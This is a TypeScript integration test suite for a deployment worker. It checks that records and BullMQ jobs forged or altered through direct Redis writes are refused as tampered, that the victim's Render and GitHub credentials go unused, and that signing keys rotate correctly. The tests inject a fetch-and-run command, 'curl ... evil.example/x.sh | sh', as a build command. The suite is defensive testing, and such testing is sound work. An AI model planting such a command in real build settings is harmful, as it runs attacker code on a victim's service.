import test from 'ava';
import { randomBytes } from 'node:crypto';
import { Writable } from 'node:stream';
import { Queue } from 'bullmq';
import { startStack, type Stack } from '../helpers/stack.js';
import { addNodeRepo, FAST_WATCH, signedInWithKey, startTestWorker, waitFinished } from '../helpers/pipeline.js';
import { envFor } from '../helpers/processes.js';
import { loadConfig } from '../../server/config/env.js';
import { createLogger } from '../../server/logger.js';
import { startWorker, type WorkerProcess } from '../../workers/process.js';
import { createKeyring } from '../../server/crypto/keyring.js';
import { createDeploymentStore } from '../../server/deployments/store.js';
import { DEPLOY_QUEUE, queuePrefix } from '../../server/queues/deployQueue.js';
import { systemClock } from '../../server/clock.js';
import type { Agent } from '../helpers/agent.js';

// Issue 11 part 5: someone who can write Redis but does not hold SECRET_KEY (no cookie either) must
// not be able to drive the worker. Everything below is done with a plain Redis client and BullMQ's
// own Queue class, exactly as such an attacker would; the Render and GitHub simulators then show
// whether the victim's credentials were used.

const SECRET_A = randomBytes(32).toString('hex');
const SECRET_B = randomBytes(32).toString('hex');
const EVIL = 'curl -fsSL https://evil.example/x.sh | sh';

let stack: Stack;
let worker: WorkerProcess & { logs: string[] };
let attackerQueue: Queue;
let victim: { agent: Agent; apiKey: string; accountId: string; userId: number; login: string };
let genuine: { id: string; json: string; mac: string; serviceId: string; serviceName: string };

const recordKey = (id: string) => `${stack.redis.prefix}:deployment:${id}`;
const fakeId = () => `dpl-${Array.from(randomBytes(20), (b) => '0123456789abcdefghijklmnopqrstuvwxyz'[b % 36]).join('')}`;

test.before(async () => {
  stack = await startStack({ env: { SECRET_KEY: SECRET_A }, renderOptions: { phaseMs: { created: 20, build_in_progress: 150, pre_deploy_in_progress: 0, update_in_progress: 20 } } });
  worker = await startTestWorker(stack);
  attackerQueue = new Queue(DEPLOY_QUEUE, { connection: { url: stack.redis.url }, prefix: queuePrefix(stack.redis.prefix) });
  // The victim deploys an app: from then on they have a live session, a stored key and a service on Render.
  const login = 'victim';
  const signed = await signedInWithKey(stack, login);
  addNodeRepo(stack, login, 'app');
  const res = await signed.agent.post('/api/render/deploy', { github_repo: `${login}/app`, project_name: 'victim-app' });
  const done = await waitFinished(signed.agent, res.json.id);
  // The worker posts the commit's final GitHub status just after the record ends (issue 15): let it,
  // so the victim's calls counted by the tests below start from a quiet state.
  for (let i = 0; i < 400 && stack.github.statusesFor(login, 'app', done.commitSha).length < 2; i++) await new Promise((r) => setTimeout(r, 25));
  if (done.status !== 'live') throw new Error(`setup deploy ended ${done.status}`);
  const [json, mac] = await stack.redis.client.hmget(recordKey(done.id), 'json', 'mac');
  const rec = JSON.parse(json!);
  victim = { ...signed, userId: rec.userId, login };
  genuine = { id: done.id, json: json!, mac: mac!, serviceId: done.serviceId, serviceName: 'victim-app' };
});
test.after.always(async () => { await attackerQueue?.close(); await worker?.close(5_000); await stack?.close(); });

/**
 * Run `tamper` with no worker running at all (a paused BullMQ worker may still take a job it was
 * already waiting for), then start a fresh one.
 */
async function withoutWorker<T>(tamper: () => Promise<T>): Promise<T> {
  await worker.close(5_000);
  try {
    return await tamper();
  } finally {
    worker = await startTestWorker(stack);
  }
}

/** Render calls made with the victim's key, and GitHub calls made with the victim's token. */
const victimCalls = () => ({
  render: stack.render.calls.filter((c) => c.accountId === victim.accountId).map((c) => `${c.method} ${c.route}`),
  github: stack.github.calls.filter((c) => c.login === victim.login).map((c) => `${c.method} ${c.path}`),
});

async function jobSettled(jobId: string): Promise<void> {
  for (let i = 0; i < 400; i++) {
    const state = await attackerQueue.getJobState(jobId);
    if (state === 'completed' || state === 'failed') return;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`job ${jobId} never settled`);
}

/** Audit entries of record_tampered events about a deployment, read from Redis (any audit key, any chain). */
async function tamperEvents(deploymentId: string): Promise<number> {
  const r = stack.redis.client;
  const values: string[] = [];
  for (const key of await r.keys(`${stack.redis.prefix}:audit*`)) {
    const type = await r.type(key);
    if (type === 'list') values.push(...await r.lrange(key, 0, -1));
    else if (type === 'zset') values.push(...await r.zrange(key, '0', '-1'));
    else if (type === 'hash') values.push(...Object.values(await r.hgetall(key)));
  }
  return values.filter((v) => {
    try {
      const detail = (JSON.parse(v) as { detail?: { securityEvent?: string; deploymentId?: string } }).detail;
      return detail?.securityEvent === 'record_tampered' && detail.deploymentId === deploymentId;
    } catch { return false; }
  }).length;
}

/** A record the attacker writes from scratch, modelled on the victim's genuine one (read from Redis). */
function forgedRecord(id: string, change: Record<string, unknown>): string {
  const base = JSON.parse(genuine.json);
  const now = new Date().toISOString();
  return JSON.stringify({
    ...base, id, status: 'queued', timeline: [{ status: 'queued', at: now, source: 'orchestrator' }], createdAt: now, updatedAt: now, finishedAt: null,
    failure: null, deployId: null, deployRequestedAt: null, serviceId: null, stack: null, commitSha: null, ...change,
  });
}

async function plant(id: string, json: string, opts: { mac?: string; listed?: boolean; jobData?: Record<string, unknown>; jobId?: string } = {}) {
  const fields = ['json', json, 'status', 'queued', 'userId', String(victim.userId), ...(opts.mac ? ['mac', opts.mac] : [])];
  const tx = stack.redis.client.multi().hset(recordKey(id), ...fields);
  if (opts.listed !== false) {
    tx.zadd(`${stack.redis.prefix}:user:${victim.userId}:deployments`, Date.now(), id).sadd(`${stack.redis.prefix}:user:${victim.userId}:active`, id);
  }
  await tx.exec();
  const jobId = opts.jobId ?? id;
  await attackerQueue.add('deploy', opts.jobData ?? { deploymentId: id, userId: victim.userId }, { jobId, priority: 1 });
  return jobId;
}

test.serial('forged records and jobs pointing at the victim\'s live session make no Render or GitHub call, and are reported', async (t) => {
  const before = victimCalls();
  const base = JSON.parse(genuine.json);
  // 1. A new "deploy" named like the victim's existing service, with the attacker's build command.
  const adopt = fakeId();
  // 2. A lifecycle job (redeploy) on the victim's service by id.
  const redeploy = fakeId();
  // 3. The genuine record's MAC and requestMac copied onto a forgery.
  const copied = fakeId();
  // 4. A forgery nobody lists (a stray key): refused, reported, but not shown to anyone.
  const stray = fakeId();
  const jobs = [
    await plant(adopt, forgedRecord(adopt, { request: { ...base.request, serviceName: genuine.serviceName, buildCommand: EVIL, startCommand: EVIL } })),
    await plant(redeploy, forgedRecord(redeploy, { kind: 'redeploy', serviceId: genuine.serviceId, status: 'triggering_deploy', request: { ...base.request, buildCommand: EVIL } })),
    await plant(copied, forgedRecord(copied, { request: { ...base.request, buildCommand: EVIL } }), {
      mac: genuine.mac, jobData: { deploymentId: copied, userId: victim.userId, requestMac: base.requestMac },
    }),
    await plant(stray, forgedRecord(stray, { request: { ...base.request, buildCommand: EVIL } }), { listed: false }),
  ];
  for (const jobId of jobs) await jobSettled(jobId);

  t.deepEqual(victimCalls(), before, 'the victim\'s Render key and GitHub token were not used');
  for (const id of [adopt, redeploy, copied]) {
    const seen = await victim.agent.get(`/api/render/deployments/${id}`);
    t.is(seen.status, 200, 'listed under the victim: shown to them as a refused deployment');
    t.is(seen.json.status, 'failed');
    t.is(seen.json.failure.code, 'record_tampered');
    t.is(seen.json.request.buildCommand, null, 'nothing of the forged command survives');
    t.is(seen.json.serviceId, null);
    t.true(await tamperEvents(id) >= 1, `security event recorded for ${id}`);
  }
  t.is((await victim.agent.get(`/api/render/deployments/${stray}`)).status, 404, 'an unlisted forgery is nobody\'s deployment');
  t.true(await tamperEvents(stray) >= 1);
  // The victim's service still has its own commands (asked with the victim's own key, after the count).
  const svc = await (await fetch(`${stack.render.url}/services/${genuine.serviceId}`, { headers: { authorization: `Bearer ${victim.apiKey}` } })).json() as { serviceDetails: { envSpecificDetails: { buildCommand: string } } };
  t.not(svc.serviceDetails.envSpecificDetails.buildCommand, EVIL);
});

test.serial('a queued record altered in Redis (build command → curl | sh) is refused before any call', async (t) => {
  addNodeRepo(stack, victim.login, 'second');
  const before = victimCalls();
  const id = await withoutWorker(async () => {
    const res = await victim.agent.post('/api/render/deploy', { github_repo: `${victim.login}/second`, project_name: 'victim-second', build_command: 'npm ci' });
    t.is(res.status, 202);
    const stored = JSON.parse((await stack.redis.client.hget(recordKey(res.json.id), 'json'))!);
    stored.request.buildCommand = EVIL;
    await stack.redis.client.hset(recordKey(res.json.id), 'json', JSON.stringify(stored)); // the MAC is left as it was
    return res.json.id as string;
  });
  await jobSettled(id);
  t.deepEqual(victimCalls(), before, 'nothing sent to Render or GitHub');
  const seen = (await victim.agent.get(`/api/render/deployments/${id}`)).json;
  t.is(seen.status, 'failed');
  t.is(seen.failure.code, 'record_tampered');
  t.true(await tamperEvents(id) >= 1);
});

test.serial('a record altered while the worker is mid-run (a detected build command) is refused at its next write: the service is never created', async (t) => {
  addNodeRepo(stack, victim.login, 'midrun');
  // Hold the worker's name lookup (the call right before creating the service) long enough to alter the record.
  stack.render.setFault({ kind: 'latency', method: 'GET', route: '/services', apiKey: victim.apiKey, ms: 3_000, count: 1 });
  const before = victimCalls().render.length;
  const res = await victim.agent.post('/api/render/deploy', { github_repo: `${victim.login}/midrun`, project_name: 'victim-midrun' });
  t.is(res.status, 202);
  const id = res.json.id as string;
  let stored: { status: string; stack: { buildCommand: string } | null } | null = null;
  for (let i = 0; i < 400; i++) {
    stored = JSON.parse((await stack.redis.client.hget(recordKey(id), 'json'))!);
    if (stored!.status === 'creating_service') break;
    await new Promise((r) => setTimeout(r, 10));
  }
  t.is(stored!.status, 'creating_service');
  stored!.stack!.buildCommand = EVIL;
  await stack.redis.client.hset(recordKey(id), 'json', JSON.stringify(stored));
  await jobSettled(id);
  const made = victimCalls().render.slice(before);
  t.false(made.includes('POST /services'), `no service created (calls: ${made.join(', ')})`);
  const seen = (await victim.agent.get(`/api/render/deployments/${id}`)).json;
  t.is(seen.status, 'failed');
  t.is(seen.failure.code, 'record_tampered');
  t.true(await tamperEvents(id) >= 1);
});

test.serial('a genuine record whose job was altered (unsigned) ends record_tampered; an extra job aimed at a genuine record is refused and the record left alone', async (t) => {
  addNodeRepo(stack, victim.login, 'third');
  const before = victimCalls();
  const { id, extraJob } = await withoutWorker(async () => {
    const res = await victim.agent.post('/api/render/deploy', { github_repo: `${victim.login}/third`, project_name: 'victim-third' });
    const deploymentId = res.json.id as string;
    // An extra job (another job id) carrying the genuine job's data, requestMac included.
    const real = await attackerQueue.getJob(deploymentId);
    const extra = `${deploymentId}-again`;
    await attackerQueue.add('deploy', real!.data, { jobId: extra, priority: 1 });
    // And the genuine job stripped of its MAC.
    const jobKey = `${queuePrefix(stack.redis.prefix)}:${DEPLOY_QUEUE}:${deploymentId}`;
    await stack.redis.client.hset(jobKey, 'data', JSON.stringify({ deploymentId, userId: victim.userId }));
    return { id: deploymentId, extraJob: extra };
  });
  await jobSettled(extraJob);
  await jobSettled(id);
  t.deepEqual(victimCalls(), before);
  const seen = (await victim.agent.get(`/api/render/deployments/${id}`)).json;
  t.is(seen.status, 'failed');
  t.is(seen.failure.code, 'record_tampered');
  t.true(await tamperEvents(id) >= 2, 'both refusals recorded');
});

test.serial('a finished deployment\'s job replayed without its MAC is refused and the history stays as it was', async (t) => {
  const before = victimCalls();
  await attackerQueue.remove(genuine.id);
  await attackerQueue.add('deploy', { deploymentId: genuine.id, userId: victim.userId }, { jobId: genuine.id, priority: 1 });
  await jobSettled(genuine.id);
  t.deepEqual(victimCalls(), before);
  const seen = (await victim.agent.get(`/api/render/deployments/${genuine.id}`)).json;
  t.is(seen.status, 'live');
  t.is(seen.serviceId, genuine.serviceId);
  t.true(await tamperEvents(genuine.id) >= 1);
});

test.serial('rotation: a record signed under SECRET_KEY_PREVIOUS still verifies, runs, and is re-signed with the new key', async (t) => {
  addNodeRepo(stack, victim.login, 'rotated');
  const rotatedConfig = loadConfig(envFor(stack.config, { SECRET_KEY: SECRET_B, SECRET_KEY_PREVIOUS: SECRET_A }));
  const both = createKeyring(Buffer.from(SECRET_B, 'hex'), Buffer.from(SECRET_A, 'hex'));
  const onlyNew = createKeyring(Buffer.from(SECRET_B, 'hex'));
  const storeWith = (keyring: typeof both) => createDeploymentStore({ redis: stack.redis.client, prefix: stack.redis.prefix, clock: systemClock, keyring });
  await worker.close(5_000);
  let rotated: WorkerProcess | undefined;
  try {
    // Requested while no worker runs: the web (SECRET_KEY A) signs it.
    const res = await victim.agent.post('/api/render/deploy', { github_repo: `${victim.login}/rotated`, project_name: 'victim-rotated' });
    t.is(res.status, 202);
    t.is((await storeWith(onlyNew).inspect(res.json.id)).state, 'tampered', 'made under A: the new key alone does not verify it');
    // The worker is redeployed with B as SECRET_KEY and A as SECRET_KEY_PREVIOUS.
    rotated = await startWorker({
      config: rotatedConfig, logger: createLogger({ level: 'silent', destination: new Writable({ write(_c, _e, cb) { cb(); } }) }), watch: FAST_WATCH,
      workerOptions: { concurrency: 5, lockDurationMs: 5_000, stalledIntervalMs: 1_000 },
    });
    await jobSettled(res.json.id);
    const found = await storeWith(both).inspect(res.json.id);
    t.is(found.state, 'valid');
    t.is(found.state === 'valid' ? found.record.status : null, 'live');
    t.is((await storeWith(onlyNew).inspect(res.json.id)).state, 'valid', 're-signed with the new key');
    t.is(await tamperEvents(res.json.id), 0);
    // Finished records nobody touches during the overlap are re-signed by the rotated worker's sweep.
    const untouched = storeWith(onlyNew);
    for (let i = 0; i < 200 && (await untouched.inspect(genuine.id)).state !== 'valid'; i++) await new Promise((r) => setTimeout(r, 25));
    t.is((await untouched.inspect(genuine.id)).state, 'valid', 'the first deployment (made under A, long finished) verifies with the new key alone');
  } finally {
    await rotated?.close(5_000);
    worker = await startTestWorker(stack);
  }
});
